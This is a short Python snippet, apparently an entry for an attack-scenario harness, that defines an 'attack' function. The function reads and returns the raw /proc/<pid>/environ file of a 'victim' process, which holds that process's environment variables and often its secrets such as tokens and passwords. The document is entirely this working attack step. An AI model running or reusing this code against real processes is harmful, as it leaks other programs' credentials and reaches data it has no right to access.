def attack(scene, oracle):
    return open(f"/proc/{scene['victim']}/environ", "rb").read()
